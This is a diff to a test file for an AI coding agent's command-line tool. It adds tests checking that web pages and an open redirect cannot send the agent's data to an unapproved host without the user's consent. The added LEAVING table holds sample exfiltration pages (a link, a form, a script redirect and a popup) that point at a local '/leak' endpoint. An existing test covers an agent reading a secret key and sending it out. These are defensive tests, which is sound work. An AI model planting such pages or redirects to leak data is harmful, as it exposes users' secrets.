@@ -4,15 +4,20 @@ Every test here goes through `amas` as a user runs it, so each can be run agains
 """
 
 import base64
+import importlib.util
 import json
 import os
 import subprocess
 import threading
+import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pexpect
 import pytest
 from conftest import API_KEY, git, run_amas
+
+from amas_code import browser
+from amas_code.config import remember
 
 SECRET = "sk-live-abcdefghijklmnopqrstuv0123456789"
 
@@ -29,6 +34,11 @@ class Listener:
 
             def do_GET(self):
                 listener.requests.append({"path": self.path, "headers": dict(self.headers), "body": ""})
+                if self.path.startswith("/go?to="):  # an open redirect on a host the user trusts
+                    self.send_response(302)
+                    self.send_header("Location", self.path.removeprefix("/go?to="))
+                    self.end_headers()
+                    return
                 self.send_response(200)
                 self.send_header("Content-Type", "text/plain")
                 self.end_headers()
@@ -292,6 +302,46 @@ def test_read_a_key_then_send_it_home(project, home, llm, amas, listener, flags)
     amas(*flags, "please tidy up the project")  # each step sends home everything the model has seen so far
     assert SECRET not in listener.seen() and SECRET not in json.dumps(llm.requests)
     assert len(listener.requests) == (1 if flags else 0)  # asked first: without a terminal, no request at all
+
+
+LEAVING = {  # a page that sends the model's words to another host by itself, or when the model clicks
+    "link": ('<a id="out" href="{url}/leak?k=words">docs</a>', [("click", {"selector": "#out"})]),
+    "form": (
+        '<form action="{url}/leak"><input name="k" value="words"><button id="out">go</button></form>',
+        [("click", {"selector": "#out"})],
+    ),
+    "script": ('<script>location = "{url}/leak?k=words"</script>', [("get_text", {})]),
+    "popup": ('<a id="out" target="_blank" href="{url}/leak?k=words">new tab</a>', [("click", {"selector": "#out"})]),
+}
+
+
+@pytest.mark.skipif(browser.find({}) is None or importlib.util.find_spec("playwright") is None, reason="no browser")
+@pytest.mark.parametrize("flags", [(), ("-y",)])
+@pytest.mark.parametrize("how", LEAVING)
+def test_a_page_cannot_take_the_browser_to_a_new_host(project, llm, amas, listener, how, flags):
+    html, calls = LEAVING[how]
+    elsewhere = listener.url.replace("127.0.0.1", "localhost")  # another host name, on 127.0.0.1 still
+    (project / "page.html").write_text(html.format(url=elsewhere))
+    attack(llm, amas, [("navigate", {"url": (project / "page.html").as_uri()}), *calls], *flags)
+    time.sleep(0.5)  # a navigation that got through has reached the listener by now
+    assert len(listener.requests) == (1 if flags else 0)
+    if not flags:
+        assert "connecting to localhost was declined" in "".join(results(llm))
+
+
+@pytest.mark.skipif(browser.find({}) is None or importlib.util.find_spec("playwright") is None, reason="no browser")
+def test_a_redirect_from_an_approved_host_to_a_new_one_asks(project, home, llm, amas, listener):
+    remember(project, "hosts", ["127.0.0.1"])  # the user said "always" to 127.0.0.1 before
+    leak = listener.url.replace("127.0.0.1", "localhost") + "/leak?k=words"
+    (project / "page.html").write_text(f'<a id="out" href="{listener.url}/go?to={leak}">docs</a>')
+    calls = [
+        ("navigate", {"url": f"{listener.url}/go?to={leak}"}),
+        ("navigate", {"url": (project / "page.html").as_uri()}),
+    ]
+    attack(llm, amas, [*calls, ("click", {"selector": "#out"})])
+    time.sleep(0.5)
+    assert [r["headers"]["Host"].split(":")[0] for r in listener.requests] == ["127.0.0.1", "127.0.0.1"]
+    assert all("connecting to localhost was declined" in r for r in (results(llm)[0], results(llm)[2]))
 
 
 # -- 7. secrets never reach the model --------------------------------------------------------------------------------
